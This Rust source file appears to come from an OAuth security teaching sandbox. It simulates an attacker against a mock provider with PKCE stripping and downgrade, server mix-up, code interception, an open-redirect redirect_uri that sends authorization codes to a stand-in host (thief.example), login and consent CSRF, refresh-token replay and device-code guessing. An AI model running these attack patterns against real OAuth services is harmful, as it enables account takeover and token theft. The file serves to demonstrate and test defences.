//! What the thief does in a run of the code flow, and in the others. Each attack is played as it is done: with the
//! requests that he would send, to the same provider.

use super::flows::{Stage, location, with_parameter};
use super::run::{ASKED, Act, End, Party, Protection, Sabotage};
use crate::provider::oauth::{self, APP, Tokens, s256};
use crate::provider::sandbox::{answer_to, asked_on, get, split_url};
use crate::provider::scope::Scopes;
use crate::stories::flow;
use crate::stories::sign_in::{HOST as SHOP, REDIRECT_URI, WebApp};
use crate::wire::form::{self, Form};
use crate::wire::http::{Request, Response};
use crate::wire::json::Value;
use crate::wire::secret::Secret;

/// An authorization server of the thief's own, at which the app lets users sign in too.
pub const THIEFS_SERVER: &str = "https://login.thief.example";
const THIEFS_LOGIN: &str = "login.thief.example";
const THIEFS_PAGE: &str = "thief.example";
/// The thief's own verifier: he makes it up, so that he can answer for it.
const THIEFS_VERIFIER: &str = "the-thief-made-this-verifier-up-himself-000";

/// What the thief's server says of itself.
pub fn thiefs_metadata() -> Response {
    let url = |path: &str| Value::from([THIEFS_SERVER, path].concat());
    let names = [("issuer", ""), ("authorization_endpoint", "/authorize"), ("token_endpoint", "/token")];
    Response::json(200, &Value::object(names.map(|(name, path)| (name, url(path)))))
}

impl Stage {
    /// What happens to the app's link between the app and the authorization server.
    pub fn link_on_its_way(&mut self, link: String) -> String {
        let Some((page, query)) = link.split_once('?') else { return link };
        let query = match self.set.sabotage {
            Some(Sabotage::ChallengeDropped) => {
                with_parameter(&with_parameter(query, "code_challenge", None), "code_challenge_method", None)
            }
            Some(Sabotage::ChallengePlain) => {
                let query = with_parameter(query, "code_challenge", Some(THIEFS_VERIFIER));
                with_parameter(&query, "code_challenge_method", Some("plain"))
            }
            Some(Sabotage::MixUp) => return self.sent_on(query),
            _ => return link,
        };
        let changed = [page, "?", &query].concat();
        self.aside(Act::LinkChanged, Party::Thief, Party::Browser, &changed);
        changed
    }

    /// The thief's server sends the browser on to the real one.
    fn sent_on(&mut self, query: &str) -> String {
        let link = [oauth::ISSUER, "/authorize?", query].concat();
        let request = Request::get(THIEFS_LOGIN, "/authorize").query(query.to_owned());
        let answer = Response::empty(303).header("Location", link.clone());
        self.tell(Act::WrongServer, Party::Browser, Party::Thief, request, answer, None);
        link
    }

    /// What happens to the code between the authorization server and the app.
    pub fn code_on_its_way(&mut self, location: &str) {
        let verifier = match self.set.sabotage {
            Some(Sabotage::VerifierGuessed) if self.set.has(Protection::Pkce) => Some(THIEFS_VERIFIER),
            Some(
                Sabotage::VerifierGuessed | Sabotage::Stolen | Sabotage::ChallengeDropped | Sabotage::CodeOfAnother,
            ) => None,
            _ => return,
        };
        let Some(code) = code_in(location) else { return };
        self.aside(Act::CodeSeen, Party::Browser, Party::Thief, &code);
        let client = if self.is(Sabotage::CodeOfAnother) { flow::PARTNER } else { APP };
        self.thief_trades(&code, REDIRECT_URI, verifier, client);
    }

    /// The thief trades a code for tokens, and uses them.
    fn thief_trades(&mut self, code: &str, redirect_uri: &str, verifier: Option<&str>, client: &str) {
        let mut parameters = vec![
            ("grant_type", "authorization_code"),
            ("code", code),
            ("redirect_uri", redirect_uri),
            ("client_id", client),
        ];
        parameters.extend(verifier.map(|verifier| ("code_verifier", verifier)));
        self.thief_gets(Request::post_form(oauth::HOST, "/token", &parameters));
    }

    fn thief_gets(&mut self, request: Request) {
        match self.tokens(Act::ThiefExchange, Party::Thief, request) {
            Some(tokens) => {
                self.orders(Act::ThiefOrders, Party::Thief, &tokens.access);
                self.decides(End::Taken);
            }
            None => self.decides(End::Stopped),
        }
    }

    /// The thief sends Ada a link of his own making, which brings the code to him: through a page of the shop that
    /// sends people on. The challenge is his, so PKCE is on his side.
    pub fn changed_redirect(&mut self) -> Option<()> {
        let redirect_uri = [REDIRECT_URI, "/../go?to=https%3A%2F%2F", THIEFS_PAGE, "%2F"].concat();
        let (scope, challenge) = (ASKED.to_string(), s256(THIEFS_VERIFIER));
        let query = form::encode(&[
            ("response_type", "code"),
            ("client_id", APP),
            ("redirect_uri", &redirect_uri),
            ("scope", &scope),
            ("state", "thief"),
            ("code_challenge", &challenge),
            ("code_challenge_method", "S256"),
        ]);
        let link = [oauth::ISSUER, "/authorize?", &query].concat();
        self.aside(Act::LinkSent, Party::Thief, Party::Browser, &link);
        let page = self.ask(Act::Authorize, Party::Browser, get(oauth::HOST, split_url(&link)?.1));
        let back = self.consent(&page)?;
        // A browser resolves `/callback/..` before it asks.
        let (_, query) = back.split_once('?')?;
        let request = Request::get(SHOP, "/go").query(query.to_owned());
        let answer = WebApp::pass_on(&request);
        let on = location(&answer)?;
        self.tell(Act::PassedOn, Party::Browser, Party::App, request, answer, None);
        let (_, query) = on.split_once('?')?;
        let request = Request::get(THIEFS_PAGE, "/").query(query.to_owned());
        self.tell(Act::CodeArrives, Party::Browser, Party::Thief, request, Response::empty(204), None);
        self.thief_trades(&code_in(&on)?, &redirect_uri, Some(THIEFS_VERIFIER), APP);
        Some(())
    }

    /// The thief begins a sign-in himself, with an account that he holds, and lets Ada's browser finish it.
    pub fn forged_callback(&mut self) -> Option<()> {
        let mut his = self.app.clone();
        let begun = his.connect(oauth::ISSUER, &ASKED.to_string(), None);
        let link = location(&begun)?;
        self.tell(Act::ThiefConnects, Party::Thief, Party::App, Request::get(SHOP, "/connect"), begun, None);
        let page = self.ask(Act::Authorize, Party::Thief, get(oauth::HOST, split_url(&link)?.1));
        let request = answer_to(&page, "bo", "approve", asked_on(&page)?)?;
        let answer = self.ask(Act::ThiefConsents, Party::Thief, request);
        let back = location(&answer)?;
        self.aside(Act::CallbackForced, Party::Thief, Party::Browser, &back);
        let (_, query) = back.split_once('?')?;
        let code = self.callback(Request::get(SHOP, "/callback").query(query.to_owned()))?;
        let request = self.app.exchange(&code);
        let tokens = self.tokens(Act::Exchange, Party::App, request)?;
        self.me(&tokens.access);
        self.decides(End::Taken);
        Some(())
    }

    /// The app takes the thief's server for the one that answered, and hands it code and verifier.
    pub fn given_away(&mut self, request: Request) -> Option<Tokens> {
        let honest = Request { host: oauth::HOST, ..request.clone() };
        let error = Value::object([("error", "server_error".into())]);
        let answer = Response::json(500, &error);
        self.tell(Act::GivenAway, Party::App, Party::Thief, request, answer, None);
        self.thief_gets(honest);
        None
    }

    /// The thief's page posts the consent form from Ada's browser. He cannot read the page's ticket, and her browser
    /// keeps the cookie back: it is SameSite=Strict.
    pub fn forged_consent(&mut self, asked: Scopes) {
        let mut parameters = vec![("ticket", "guessed"), ("user", "ada"), ("decision", "approve")];
        parameters.extend(asked.iter().map(|scope| (scope.name(), "yes")));
        self.aside(Act::FormForced, Party::Thief, Party::Browser, "<body onload=\"document.forms[0].submit()\">");
        self.ask(Act::Consent, Party::Browser, Request::post_form(oauth::HOST, "/consent", &parameters));
        self.decides(End::Stopped);
    }

    /// The thief has a copy of the refresh token; the app uses it first.
    pub fn replayed(&mut self, refresh: &Secret) -> Option<()> {
        self.aside(Act::RefreshCopied, Party::App, Party::Thief, refresh.reveal());
        let newer = self.tokens(Act::Refresh, Party::App, flow::refresh(APP, refresh))?;
        match self.tokens(Act::ThiefRefresh, Party::Thief, flow::refresh(APP, refresh)) {
            Some(tokens) => {
                self.orders(Act::ThiefOrders, Party::Thief, &tokens.access);
                self.decides(End::Taken);
            }
            None => {
                self.decides(End::Stopped);
                self.ask(Act::Refresh, Party::App, flow::refresh(APP, newer.refresh.as_ref()?));
            }
        }
        Some(())
    }

    /// The thief guesses at codes that a device may be showing.
    pub fn guesses(&mut self) {
        for guess in ["BBBB-BBBB", "BBBB-BBBC", "BBBB-BBBD", "BBBB-BBBF", "BBBB-BBBG", "BBBB-BBBH"] {
            let request = Request::get(oauth::HOST, "/device").query(form::encode(&[("user_code", guess)]));
            self.ask(Act::Guess, Party::Thief, request);
        }
        self.decides(End::Stopped);
    }
}

/// The code in an address.
fn code_in(location: &str) -> Option<String> {
    let (_, query) = location.split_once('?')?;
    Form::parse(query).ok()?.value("code").map(str::to_owned)
}
